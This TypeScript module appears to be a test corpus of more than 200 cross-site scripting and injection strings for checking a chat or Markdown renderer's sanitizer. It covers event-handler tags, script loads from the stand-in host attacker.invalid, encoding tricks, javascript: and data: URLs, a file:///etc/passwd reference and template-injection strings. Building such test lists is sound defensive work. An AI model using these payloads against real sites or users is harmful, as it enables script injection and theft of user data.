/** An executed vector sets this variable or sends a request to this host. */
const RUN = 'self.__ran=1';
const HOME = 'https://attacker.invalid/';

const HANDLERS = [
  'error',
  'load',
  'click',
  'mouseover',
  'focus',
  'toggle',
  'begin',
  'animationstart',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'video src=x',
  'input autofocus',
  'marquee',
  'iframe',
];

/** Elements with event handlers and different ways of closing the context. */
const handlers = ELEMENTS.flatMap((element, index) =>
  HANDLERS.slice(0, 6).map((handler, place) => {
    const end = ['>', ' />', ' //', '\n>'][(index + place) % 4];
    return `<${element} on${handler}=${RUN}${end}`;
  }),
);

const elements = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${HOME}a.js"></sCrIpT>`,
  `<script/src=${HOME}a.js>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<object data="${HOME}a.swf"></object>`,
  `<embed src="${HOME}a.svg">`,
  `<link rel=stylesheet href="${HOME}a.css">`,
  `<style>@import "${HOME}a.css"</style>`,
  `<style>*{background:url(${HOME}a.png)}</style>`,
  `<base href="${HOME}">`,
  `<meta http-equiv=refresh content="0;url=${HOME}">`,
  `<form action="${HOME}"><button>x</button></form>`,
  `<img src="${HOME}a.png">`,
  `<img srcset="${HOME}a.png 1x">`,
  `<picture><source srcset="${HOME}a.png"></picture>`,
  `<svg><image href="${HOME}a.png"/></svg>`,
  `<svg><use href="${HOME}a.svg#x"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<audio src="${HOME}a.mp3" autoplay>`,
  `<video poster="${HOME}a.png">`,
  `<portal src="${HOME}">`,
];

const breakouts = [
  `"`,
  `'`,
  '`',
  `">`,
  `'>`,
  '</p>',
  '</div></article>',
  '</textarea>',
  ' ',
  ']]>',
  '-->',
  '*/',
].flatMap((end) => [`${end}<img src=x onerror=${RUN}>`, `${end} onmouseover=${RUN} x=`]);

const encoded = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;script&#x3e;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `＜script＞${RUN}＜/script＞`,
  `<\u200bscript>${RUN}`,
  `<img\u2028src=x\u2029onerror=${RUN}>`,
  `\u202e<tpircs>${RUN}`,
  `&lt;img src=x onerror&equals;${RUN}&gt;`,
  `&NewLine;<svg onload&#61;${RUN}>`,
];

/** URLs that must never become a link or an image source. */
export const ADDRESS_VECTORS: readonly string[] = [
  ...['javascript', 'JaVaScRiPt', 'vbscript', 'livescript', 'mocha', 'view-source'].map(
    (scheme) => `${scheme}:${RUN}`,
  ),
  `java\tscript:${RUN}`,
  `java\u0001script:${RUN}`,
  ` \u0000javascript:${RUN}`,
  `\u2028javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript:/*https://a.test/*/${RUN}`,
  `javascript://a.test/%0A${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'blob:https://attacker.invalid/1',
  'filesystem:https://attacker.invalid/1',
  'file:///etc/passwd',
  'about:blank',
  'ws://attacker.invalid/',
  'ftp://attacker.invalid/a.png',
  'mailto:a@attacker.invalid',
  'tel:1',
  'intent://attacker.invalid#Intent;end',
  '//attacker.invalid/a.png',
  '\\\\attacker.invalid\\a.png',
  '/\\attacker.invalid/a.png',
  'https:attacker.invalid/a.png',
  'https:/\\attacker.invalid/a.png',
  'http:attacker.invalid',
  'https://',
  'https:// attacker.invalid/',
  '{user.name}',
  '{user.mention}//attacker.invalid',
  '{constructor}',
  '{__proto__}',
];

const marks = [
  ...ADDRESS_VECTORS.slice(0, 20).map((address) => `[words](${address})`),
  `[<img src=x onerror=${RUN}>](https://a.test)`,
  `[a](https://a.test "onmouseover=${RUN}")`,
  `[a](https://a.test" onmouseover="${RUN})`,
  `**<img src=x onerror=${RUN}>**`,
  `||<svg onload=${RUN}>||`,
  `\`<script>${RUN}</script>\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `> <img src=x onerror=${RUN}>`,
  `# <svg onload=${RUN}>`,
  `- <svg onload=${RUN}>`,
  `<a:"><img src=x onerror=${RUN}>:123>`,
  `<:x:1" onerror="${RUN}>`,
  `<@1"><img src=x onerror=${RUN}>`,
  `<t:1:"><img src=x onerror=${RUN}>`,
  `<t:99999999999999999999:R>`,
  `<javascript:${RUN}>`,
  `</x"><img src=x onerror=${RUN}>:1>`,
];

const codes = [
  `} && {image: ${HOME}a.png`,
  `}$v{image: ${HOME}a.png}`,
  `} && {button: label: x && url: javascript:${RUN}`,
  ` && icon: ${HOME}a.png`,
  ` && url: javascript:${RUN}`,
  `{embed}{thumbnail: ${HOME}a.png}`,
  `\\} && {thumbnail: ${HOME}a.png`,
  '{user.name}{{user.name}}{user.{user.name}}',
  '{constructor.constructor}{__proto__}{toString}',
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `'; ${RUN}; //`,
  `); ${RUN}; (`,
  `expression(${RUN})`,
  `url(${HOME}a.png)`,
  `@import '${HOME}a.css'`,
];

/** More than 200 texts that try to run code, load a resource or break out of their context. */
export const TEXT_VECTORS: readonly string[] = [
  ...handlers,
  ...elements,
  ...breakouts,
  ...encoded,
  ...ADDRESS_VECTORS,
  ...marks,
  ...codes,
];
